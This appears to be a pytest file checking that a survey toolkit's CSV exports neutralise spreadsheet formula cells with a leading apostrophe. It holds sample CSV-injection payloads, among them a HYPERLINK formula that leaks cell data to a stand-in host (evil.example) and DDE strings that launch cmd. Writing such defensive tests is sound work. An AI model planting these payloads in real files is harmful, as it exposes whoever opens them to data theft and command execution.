"""No CSV the toolkit writes holds a cell a spreadsheet would run as a formula (issue 25, point 10; OWASP's rule
for CSV injection): such a cell is written with a leading apostrophe, a plain number stays a number."""

from __future__ import annotations

import csv
import re

import pandas as pd

from dol_toolkit.csvsafe import neutralise, write_csv
from dol_toolkit.export.tidy import write_tidy
from dol_toolkit.survey import read_export
from tests.survey.builders import WIDE_ROWS, wide_table
from tests.survey.builders import write_csv as write_export

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "spaces": "   =1+1",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
RUNS = re.compile(r"^[ \u00a0]*[=+\-@\t\r\n]")
NUMBER = re.compile(r"^[+-]?\d+([.,]\d*)?$")


def runnable(cell: str) -> bool:
    """Whether a spreadsheet would read ``cell`` as a formula."""
    return bool(RUNS.match(cell)) and not NUMBER.match(cell.strip())


def test_neutralise():
    for text in HOSTILE.values():
        assert neutralise(text) == "'" + text
    for text in ("-5", "-2,5", "+4", "-1e-3", " -7 ", "Helt enig", "", "R01", "5 - Helt enig", "a=b"):
        assert neutralise(text) == text
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5


def test_the_research_answers_hold_no_runnable_cell(tmp_path):
    rows = [list(r) for r in WIDE_ROWS]
    # on the rows that stay in the file (a leader's own and their own leader's; employees of a leader with
    # fewer than five are left out)
    rows[2][2] = HOSTILE["hyperlink"]  # department
    rows[2][0] = "-5"  # a plain negative number as respondent id
    rows[3][0] = HOSTILE["dde"]  # respondent id
    rows[5][2] = HOSTILE["spaces"]
    rows[5][0] = HOSTILE["tab"]
    rows[6][0] = HOSTILE["minus"]
    for k in range(4):
        rows[k][3] = HOSTILE["at"]  # one leader with every role
    export = write_export(tmp_path / "export.csv", wide_table(rows=rows))
    responses = read_export(export).responses
    result = write_tidy(responses, tmp_path / "out")
    for path in result.files[:2]:
        with path.open(encoding="utf-8", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if runnable(c)], path.name
    table = pd.read_csv(result.files[0], dtype=str, keep_default_na=False)
    assert "'" + HOSTILE["hyperlink"] in set(table["department"])
    assert "'" + HOSTILE["at"] in set(table["leader_id"])
    assert "'" + HOSTILE["dde"] in set(table["respondent_id"])
    assert "'" + HOSTILE["minus"] in set(table["respondent_id"])
    assert "'=1+1" in set(table["department"])  # the import strips the spaces around a cell
    assert "-5" in set(table["respondent_id"])  # a number stays a number
    assert set(table["value"]) >= {"1.0", "5.0"}


def test_write_csv_neutralises_names_and_cells(tmp_path):
    frame = pd.DataFrame({"=name": [HOSTILE["cr"], "-3", 4.5], "ok": ["@x", "y", None]})
    write_csv(frame, tmp_path / "x.csv", sep=";")
    with (tmp_path / "x.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows == [["'=name", "ok"], ["'\r=1+1", "'@x"], ["-3", "y"], ["4.5", ""]]
